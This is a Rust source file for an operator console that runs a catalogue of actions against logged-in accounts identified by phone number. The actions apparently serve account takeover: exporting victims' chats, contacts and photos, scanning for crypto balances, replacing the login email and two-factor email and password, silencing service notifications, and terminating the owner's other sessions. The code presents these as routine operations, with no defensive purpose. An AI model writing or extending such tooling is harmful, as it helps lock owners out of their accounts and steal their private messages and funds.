//! Operation dispatch against a live account session.
//!
//! `Console::run` is the single entry point for the whole catalogue. Every
//! operation goes through the same lifecycle: acquire the single-flight
//! permit (or drop silently), issue the remote call, then settle through one
//! uniform terminal path: apply the payload and notify on success, offer
//! re-authentication when the session turns out to be unauthenticated,
//! surface the message otherwise. An unauthenticated session is a
//! recoverable precondition here, never a dead end.

use std::collections::HashMap;
use std::sync::{Arc, RwLock};

use base64::Engine;
use uuid::Uuid;

use crate::api::AccountApi;
use crate::api::types::{
    BalanceReport, Outcome, SessionRecord, TwoFactorEmailRequest, UserProfile, classify_hint,
};
use crate::config::PollConfig;
use crate::error::{ApiError, ErrorHint, Rejection, redact_sensitive_detail};
use crate::notify::{ConfirmPrompt, Notifier};
use crate::poll::SessionPoller;

use super::exports::{ArtifactPreview, DownloadRecord, ExportCache, ExportKind, preview_artifact};
use super::guard::SingleFlight;

/// The (id, phone) pair an operation runs against.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SessionHandle {
    pub id: i64,
    pub phone: String,
}

impl From<&SessionRecord> for SessionHandle {
    fn from(record: &SessionRecord) -> Self {
        Self {
            id: record.id,
            phone: record.phone_number.clone(),
        }
    }
}

/// The operation catalogue.
#[derive(Clone)]
pub enum Action {
    ShowProfile,
    Export(ExportKind),
    ExportDialog { peer: String },
    FetchAvatar,
    ScanBalance,
    ScanPatterns,
    LoginEmailStatus,
    CheckTwoFactor,
    SetTwoFactorEmail {
        email: String,
        new_password: Option<String>,
        current_password: Option<String>,
    },
    ChangeLoginEmailSend { new_email: String },
    ChangeLoginEmailVerify { new_email: String, code: String },
    RotateLoginEmail,
    SilenceServiceNotifications,
    TerminateOtherSessions,
    DeleteSession,
    OpenLog,
    CloseLog,
}

impl Action {
    /// Log-safe label; actions can carry credentials, so no field debug.
    pub fn label(&self) -> &'static str {
        match self {
            Self::ShowProfile => "profile.show",
            Self::Export(ExportKind::Contacts) => "export.contacts",
            Self::Export(ExportKind::Chats) => "export.chats",
            Self::Export(ExportKind::SavedMessages) => "export.saved",
            Self::Export(ExportKind::Dialog) | Self::ExportDialog { .. } => "export.dialog",
            Self::Export(ExportKind::ContactPhotos) => "export.contact_photos",
            Self::FetchAvatar => "avatar.fetch",
            Self::ScanBalance => "balance.scan",
            Self::ScanPatterns => "patterns.scan",
            Self::LoginEmailStatus => "email.status",
            Self::CheckTwoFactor => "twofactor.status",
            Self::SetTwoFactorEmail { .. } => "twofactor.email",
            Self::ChangeLoginEmailSend { .. } => "email.change_send",
            Self::ChangeLoginEmailVerify { .. } => "email.change_verify",
            Self::RotateLoginEmail => "email.rotate",
            Self::SilenceServiceNotifications => "notifications.silence",
            Self::TerminateOtherSessions => "sessions.terminate_others",
            Self::DeleteSession => "sessions.delete",
            Self::OpenLog => "log.open",
            Self::CloseLog => "log.close",
        }
    }
}

/// Terminal result of one dispatched operation.
#[derive(Debug)]
pub enum OpReport {
    Completed,
    Failed(Rejection),
    /// Dropped because another operation held the single-flight permit.
    DroppedBusy,
    /// The session is unauthenticated and the operator accepted the offer
    /// to re-enter the login flow.
    ReauthRequested,
    /// The operator declined a destructive confirmation.
    Cancelled,
}

impl OpReport {
    pub fn completed(&self) -> bool {
        matches!(self, OpReport::Completed)
    }

    fn label(&self) -> &'static str {
        match self {
            Self::Completed => "completed",
            Self::Failed(_) => "failed",
            Self::DroppedBusy => "dropped_busy",
            Self::ReauthRequested => "reauth_requested",
            Self::Cancelled => "cancelled",
        }
    }
}

/// Read-mostly view state the dispatcher applies payloads to.
#[derive(Default)]
struct ViewState {
    sessions: Vec<SessionRecord>,
    profiles: HashMap<String, UserProfile>,
    downloads: HashMap<i64, DownloadRecord>,
    balances: HashMap<String, BalanceReport>,
    exports: ExportCache,
    last_preview: Option<(String, ArtifactPreview)>,
}

/// The console: one instance per operator surface. Holds the global
/// single-flight guard, the pollers, and the cached view of session state.
pub struct Console {
    api: Arc<dyn AccountApi>,
    notifier: Arc<dyn Notifier>,
    confirm: Arc<dyn ConfirmPrompt>,
    guard: SingleFlight,
    poller: SessionPoller,
    state: RwLock<ViewState>,
}

impl Console {
    pub fn new(
        api: Arc<dyn AccountApi>,
        notifier: Arc<dyn Notifier>,
        confirm: Arc<dyn ConfirmPrompt>,
        poll_config: PollConfig,
    ) -> Self {
        Self {
            poller: SessionPoller::new(Arc::clone(&api), poll_config),
            api,
            notifier,
            confirm,
            guard: SingleFlight::new(),
            state: RwLock::new(ViewState::default()),
        }
    }

    pub fn poller(&self) -> &SessionPoller {
        &self.poller
    }

    /// Refresh the cached session list, restart the pollers for the new
    /// visible set, and quietly warm the profile cache.
    pub async fn load_sessions(&self) -> Result<Vec<SessionRecord>, ApiError> {
        let sessions = self.api.sessions().await?;
        let phones: Vec<String> = sessions.iter().map(|s| s.phone_number.clone()).collect();

        {
            let mut state = self.state.write().expect("view state lock");
            state.sessions = sessions.clone();
        }
        self.poller.watch(phones);

        for session in &sessions {
            let already_cached = {
                let state = self.state.read().expect("view state lock");
                state.profiles.contains_key(&session.phone_number)
            };
            if already_cached {
                continue;
            }
            match self.api.user_info(&session.phone_number).await {
                Ok(Outcome::Success(profile)) => {
                    let mut state = self.state.write().expect("view state lock");
                    state.profiles.insert(session.phone_number.clone(), profile);
                }
                Ok(Outcome::Rejected(rejection)) => {
                    tracing::debug!(phone = %session.phone_number, "profile warm-up rejected: {rejection}");
                }
                Err(e) => {
                    tracing::debug!(phone = %session.phone_number, "profile warm-up failed: {e}");
                }
            }
        }

        Ok(sessions)
    }

    /// Cached session records with polled liveness overlaid.
    pub fn sessions(&self) -> Vec<SessionRecord> {
        let mut sessions = self.state.read().expect("view state lock").sessions.clone();
        self.poller.apply_liveness(&mut sessions);
        sessions
    }

    pub fn profile(&self, phone: &str) -> Option<UserProfile> {
        self.state
            .read()
            .expect("view state lock")
            .profiles
            .get(phone)
            .cloned()
    }

    pub fn download(&self, session_id: i64) -> Option<DownloadRecord> {
        self.state
            .read()
            .expect("view state lock")
            .downloads
            .get(&session_id)
            .cloned()
    }

    pub fn balance(&self, phone: &str) -> Option<BalanceReport> {
        self.state
            .read()
            .expect("view state lock")
            .balances
            .get(phone)
            .cloned()
    }

    pub fn last_preview(&self) -> Option<(String, ArtifactPreview)> {
        self.state
            .read()
            .expect("view state lock")
            .last_preview
            .clone()
    }

    /// Dispatch one operation. At most one runs per console at any instant;
    /// a trigger during another operation is dropped silently.
    pub async fn run(&self, session: &SessionHandle, action: Action) -> OpReport {
        let Some(_permit) = self.guard.try_begin() else {
            tracing::debug!(
                action = action.label(),
                phone = %session.phone,
                "operation dropped, another is in flight"
            );
            return OpReport::DroppedBusy;
        };

        let op_id = Uuid::new_v4();
        tracing::info!(%op_id, action = action.label(), phone = %session.phone, "dispatching");

        let report = match action {
            Action::ShowProfile => self.show_profile(session).await,
            Action::Export(kind) => self.export(session, kind, None).await,
            Action::ExportDialog { peer } => {
                self.export(session, ExportKind::Dialog, Some(&peer)).await
            }
            Action::FetchAvatar => self.fetch_avatar(session).await,
            Action::ScanBalance => self.scan_balance(session).await,
            Action::ScanPatterns => self.scan_patterns(session).await,
            Action::LoginEmailStatus => self.login_email_status(session).await,
            Action::CheckTwoFactor => self.check_two_factor(session).await,
            Action::SetTwoFactorEmail {
                email,
                new_password,
                current_password,
            } => {
                self.set_two_factor_email(session, email, new_password, current_password)
                    .await
            }
            Action::ChangeLoginEmailSend { new_email } => {
                self.ack_op(
                    self.api.change_login_email_send(&session.phone, &new_email).await,
                    "confirmation code sent to the new email",
                )
            }
            Action::ChangeLoginEmailVerify { new_email, code } => self.ack_op(
                self.api
                    .change_login_email_verify(&session.phone, &new_email, &code)
                    .await,
                "login email confirmed",
            ),
            Action::RotateLoginEmail => self.rotate_login_email(session).await,
            Action::SilenceServiceNotifications => self.silence_notifications(session).await,
            Action::TerminateOtherSessions => self.ack_op(
                self.api.terminate_other_sessions(&session.phone).await,
                "other sessions terminated",
            ),
            Action::DeleteSession => self.delete_session(session).await,
            Action::OpenLog => {
                self.poller.open_log(&session.phone);
                OpReport::Completed
            }
            Action::CloseLog => {
                self.poller.close_log(&session.phone);
                OpReport::Completed
            }
        };

        tracing::info!(%op_id, outcome = report.label(), "operation settled");
        report
    }

    // --- the uniform terminal path ---------------------------------------

    fn settle_rejection(&self, rejection: Rejection) -> OpReport {
        if rejection.is_unauthenticated() {
            if self
                .confirm
                .confirm("The account session is not authenticated. Open the login flow?")
            {
                return OpReport::ReauthRequested;
            }
            return OpReport::Failed(rejection);
        }
        self.notifier.error(&rejection.message);
        OpReport::Failed(rejection)
    }

    fn settle_error(&self, error: ApiError) -> OpReport {
        let detail = redact_sensitive_detail(&error.to_string());
        let hint = classify_hint(&detail).unwrap_or(ErrorHint::Transport);
        self.settle_rejection(Rejection::new(detail, Some(hint)))
    }

    /// Settle a payload-free acknowledgement operation.
    fn ack_op(
        &self,
        result: Result<Outcome<crate::api::types::Ack>, ApiError>,
        message: &str,
    ) -> OpReport {
        match result {
            Ok(Outcome::Success(_)) => {
                self.notifier.success(message);
                OpReport::Completed
            }
            Ok(Outcome::Rejected(rejection)) => self.settle_rejection(rejection),
            Err(e) => self.settle_error(e),
        }
    }

    // --- handlers ---------------------------------------------------------

    async fn show_profile(&self, session: &SessionHandle) -> OpReport {
        match self.api.user_info(&session.phone).await {
            Ok(Outcome::Success(profile)) => {
                let summary = format!(
                    "id {} | {} | {}",
                    profile.user_id.map_or("-".to_string(), |id| id.to_string()),
                    profile
                        .username
                        .as_deref()
                        .map_or("-".to_string(), |u| format!("@{u}")),
                    profile.display_name().unwrap_or_else(|| "-".to_string()),
                );
                self.state
                    .write()
                    .expect("view state lock")
                    .profiles
                    .insert(session.phone.clone(), profile);
                self.notifier.success(&summary);
                OpReport::Completed
            }
            Ok(Outcome::Rejected(rejection)) => self.settle_rejection(rejection),
            Err(e) => self.settle_error(e),
        }
    }

    async fn export(
        &self,
        session: &SessionHandle,
        kind: ExportKind,
        peer: Option<&str>,
    ) -> OpReport {
        if kind == ExportKind::ContactPhotos {
            return self.export_contact_photos(session).await;
        }

        // Artifact cache first: a known (session, kind) artifact is opened
        // directly, skipping the expensive recomputation entirely.
        if kind.cacheable() {
            let known = self
                .state
                .read()
                .expect("view state lock")
                .exports
                .lookup(session.id, kind)
                .map(str::to_string);

            let known = match known {
                Some(file_name) => Some(file_name),
                None => match self.api.last_exports(&session.phone).await {
                    Ok(Outcome::Success(last)) => {
                        kind.remote_slot(&last.files).map(str::to_string)
                    }
                    // No listing is not an error, just a cache miss.
                    Ok(Outcome::Rejected(_)) => None,
                    Err(e) => return self.settle_error(e),
                },
            };

            if let Some(file_name) = known {
                self.notifier
                    .info(&format!("reusing existing {} artifact", kind.label()));
                return self.open_artifact(session, kind, &file_name).await;
            }
        }

        let result = match kind {
            ExportKind::Contacts => self.api.export_contacts(&session.phone).await,
            ExportKind::Chats => self.api.export_chats(&session.phone).await,
            ExportKind::SavedMessages => self.api.export_saved_messages(&session.phone).await,
            ExportKind::Dialog => {
                let Some(peer) = peer else {
                    let rejection =
                        Rejection::new("a peer (@username or numeric id) is required", None);
                    self.notifier.error(&rejection.message);
                    return OpReport::Failed(rejection);
                };
                self.api.export_dialog(&session.phone, peer).await
            }
            ExportKind::ContactPhotos => unreachable!("handled above"),
        };

        match result {
            Ok(Outcome::Success(receipt)) => {
                self.notifier
                    .success(&format!("{} export ready", kind.label()));
                let Some(file_name) = receipt.file_name else {
                    return OpReport::Completed;
                };
                self.open_artifact(session, kind, &file_name).await
            }
            Ok(Outcome::Rejected(rejection)) => self.settle_rejection(rejection),
            Err(e) => self.settle_error(e),
        }
    }

    /// Record the download affordance and fetch the artifact for preview.
    /// The operation counts as a success once the artifact reference is
    /// recorded; a preview fetch failure only costs the preview.
    async fn open_artifact(
        &self,
        session: &SessionHandle,
        kind: ExportKind,
        file_name: &str,
    ) -> OpReport {
        {
            let mut state = self.state.write().expect("view state lock");
            if kind.cacheable() {
                state.exports.remember(session.id, kind, file_name);
            }
            state.downloads.insert(
                session.id,
                DownloadRecord {
                    label: kind.label().to_string(),
                    session_id: session.id,
                    file_name: file_name.to_string(),
                },
            );
        }

        match self.api.fetch_export_file(session.id, file_name).await {
            Ok(file) => {
                let preview = preview_artifact(file_name, &file);
                let mut state = self.state.write().expect("view state lock");
                state.last_preview = Some((format!("{}: {file_name}", kind.label()), preview));
                OpReport::Completed
            }
            Err(e) => {
                self.notifier
                    .error(&format!("could not load artifact {file_name}: {e}"));
                OpReport::Completed
            }
        }
    }

    async fn export_contact_photos(&self, session: &SessionHandle) -> OpReport {
        match self.api.export_contact_photos(&session.phone).await {
            Ok(Outcome::Success(export)) => {
                let count = export
                    .count
                    .unwrap_or(export.contacts.len() as u64);
                if export.existing {
                    self.notifier
                        .success(&format!("reusing stored contacts ({count})"));
                } else {
                    self.notifier
                        .success(&format!("exported {count} contacts with photos"));
                }
                OpReport::Completed
            }
            Ok(Outcome::Rejected(rejection)) => self.settle_rejection(rejection),
            Err(e) => self.settle_error(e),
        }
    }

    async fn fetch_avatar(&self, session: &SessionHandle) -> OpReport {
        match self.api.fetch_avatar(&session.phone).await {
            Ok(Outcome::Success(update)) => {
                match update.photo_base64 {
                    Some(photo) => {
                        if base64::engine::general_purpose::STANDARD.decode(&photo).is_ok() {
                            let mut state = self.state.write().expect("view state lock");
                            state
                                .profiles
                                .entry(session.phone.clone())
                                .or_default()
                                .photo_base64 = Some(photo);
                        } else {
                            tracing::warn!(phone = %session.phone, "avatar payload is not valid base64");
                        }
                    }
                    // No inline payload: refresh the whole profile instead.
                    None => {
                        if let Ok(Outcome::Success(profile)) =
                            self.api.user_info(&session.phone).await
                        {
                            self.state
                                .write()
                                .expect("view state lock")
                                .profiles
                                .insert(session.phone.clone(), profile);
                        }
                    }
                }
                if update.existing {
                    self.notifier.success("avatar was already stored");
                } else {
                    self.notifier.success("avatar refreshed");
                }
                OpReport::Completed
            }
            Ok(Outcome::Rejected(rejection)) => self.settle_rejection(rejection),
            Err(e) => self.settle_error(e),
        }
    }

    async fn scan_balance(&self, session: &SessionHandle) -> OpReport {
        match self.api.scan_balance(&session.phone).await {
            Ok(Outcome::Success(report)) => {
                let coins = if report.coins_found.is_empty() {
                    "none".to_string()
                } else {
                    report.coins_found.join(", ")
                };
                if report.existing {
                    self.notifier
                        .success(&format!("using stored balance: {coins}"));
                } else {
                    self.notifier
                        .success(&format!("balance collected: {coins}"));
                }
                self.state
                    .write()
                    .expect("view state lock")
                    .balances
                    .insert(session.phone.clone(), report);
                OpReport::Completed
            }
            Ok(Outcome::Rejected(rejection)) => self.settle_rejection(rejection),
            Err(e) => self.settle_error(e),
        }
    }

    async fn scan_patterns(&self, session: &SessionHandle) -> OpReport {
        match self.api.run_pattern_scan(&session.phone).await {
            Ok(Outcome::Success(scan)) => {
                let matches = scan.matches.map_or("?".to_string(), |m| m.to_string());
                let bundles = scan.bundles.map_or("?".to_string(), |b| b.to_string());
                if scan.existing {
                    self.notifier.success(&format!(
                        "using previously computed patterns: {matches} matches, {bundles} bundles"
                    ));
                } else {
                    self.notifier.success(&format!(
                        "pattern scan done: {matches} matches, {bundles} bundles"
                    ));
                }
                OpReport::Completed
            }
            Ok(Outcome::Rejected(rejection)) => self.settle_rejection(rejection),
            Err(e) => self.settle_error(e),
        }
    }

    async fn login_email_status(&self, session: &SessionHandle) -> OpReport {
        match self.api.login_email_status(&session.phone).await {
            Ok(Outcome::Success(status)) => {
                let set = status.login_email_set.unwrap_or(false);
                let pattern = status.login_email_pattern.clone();
                self.poller.patch_metrics(&session.phone, |metrics| {
                    metrics.login_email_set = Some(set);
                    if pattern.is_some() {
                        metrics.email_pattern = pattern.clone();
                    }
                });
                let suffix = status
                    .login_email_pattern
                    .map_or(String::new(), |p| format!(" ({p})"));
                self.notifier.success(&format!(
                    "login email: {}{suffix}",
                    if set { "set" } else { "not set" }
                ));
                OpReport::Completed
            }
            Ok(Outcome::Rejected(rejection)) => self.settle_rejection(rejection),
            Err(e) => self.settle_error(e),
        }
    }

    async fn check_two_factor(&self, session: &SessionHandle) -> OpReport {
        match self.api.check_two_factor(&session.phone).await {
            Ok(Outcome::Success(status)) => {
                let enabled = status.has_2fa.unwrap_or(false);
                let suffix = status
                    .email_pattern
                    .map_or(String::new(), |p| format!(", email: {p}"));
                self.notifier.success(&format!(
                    "two-factor: {}{suffix}",
                    if enabled { "enabled" } else { "disabled" }
                ));
                OpReport::Completed
            }
            Ok(Outcome::Rejected(rejection)) => self.settle_rejection(rejection),
            Err(e) => self.settle_error(e),
        }
    }

    async fn set_two_factor_email(
        &self,
        session: &SessionHandle,
        email: String,
        new_password: Option<String>,
        current_password: Option<String>,
    ) -> OpReport {
        let request = TwoFactorEmailRequest {
            phone_number: session.phone.clone(),
            email,
            new_password,
            current_password,
        };
        self.ack_op(
            self.api.set_two_factor_email(request).await,
            "two-factor email updated",
        )
    }

    async fn rotate_login_email(&self, session: &SessionHandle) -> OpReport {
        match self.api.auto_change_login_email(&session.phone).await {
            Ok(Outcome::Success(rotation)) => {
                let old = rotation.old_email.unwrap_or_else(|| "unset".to_string());
                let new = rotation.new_email.clone().unwrap_or_else(|| "?".to_string());
                self.poller.patch_metrics(&session.phone, |metrics| {
                    metrics.login_email_set = Some(true);
                    metrics.email_pattern = rotation.new_email.clone();
                });
                self.notifier
                    .success(&format!("login email changed from {old} to {new}"));
                OpReport::Completed
            }
            Ok(Outcome::Rejected(rejection)) => self.settle_rejection(rejection),
            Err(e) => self.settle_error(e),
        }
    }

    async fn silence_notifications(&self, session: &SessionHandle) -> OpReport {
        match self.api.silence_service_notifications(&session.phone).await {
            Ok(Outcome::Success(summary)) => {
                let text = summary
                    .summary
                    .unwrap_or_else(|| "service notifications silenced".to_string());
                self.notifier.success(&text);
                OpReport::Completed
            }
            Ok(Outcome::Rejected(rejection)) => self.settle_rejection(rejection),
            Err(e) => self.settle_error(e),
        }
    }

    async fn delete_session(&self, session: &SessionHandle) -> OpReport {
        let question = format!(
            "Delete session {}? This cannot be undone.",
            session.phone
        );
        if !self.confirm.confirm(&question) {
            return OpReport::Cancelled;
        }

        match self.api.delete_session(session.id).await {
            Ok(true) => {
                self.notifier.success("session deleted");
                if let Err(e) = self.load_sessions().await {
                    tracing::warn!("session list refresh after delete failed: {e}");
                }
                OpReport::Completed
            }
            Ok(false) => {
                let rejection = Rejection::new("could not delete the session", None);
                self.notifier.error(&rejection.message);
                OpReport::Failed(rejection)
            }
            Err(e) => self.settle_error(e),
        }
    }
}
